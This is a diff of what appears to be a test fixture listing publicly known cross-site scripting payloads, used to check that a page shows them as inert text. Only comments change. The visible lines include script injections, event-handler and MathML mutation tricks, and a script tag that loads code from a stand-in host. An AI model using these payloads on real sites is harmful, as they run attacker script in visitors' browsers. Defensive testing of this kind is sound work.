@@ -2,11 +2,11 @@ const RUN = 'alert(1)'
 const IMG = `<img src=x onerror=${RUN}>`
 
 /**
- * Attacks that are publicly known to run in a page that shows them as HTML: seventy-five ways in, each of another kind. All of them would
- * call `alert`. Here they must run nowhere; as plain text they are words.
+ * Publicly known attacks that run in a page that shows them as HTML: seventy-five ways, each of another kind. All of them would call
+ * `alert`. Here none may run; as plain text they are words.
  */
 export const PAYLOADS: readonly string[] = [
-  // Elements that run, or bring something that does.
+  // Elements that run, or load something that does.
   `<script>${RUN}</script>`,
   `<ScRiPt >${RUN}</sCrIpT>`,
   `<script src=//evil.test/x.js></script>`,
@@ -76,7 +76,7 @@ export const PAYLOADS: readonly string[] = [
   `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
   `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">a</maction></math>`,
   `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
-  // Read in one way by a filter and in another by a browser.
+  // Markup that a filter and a browser read differently.
   `<noscript><p title="</noscript>${IMG}">`,
   `<noembed><p title="</noembed>${IMG}">`,
   `<xmp><p title="</xmp>${IMG}">`,
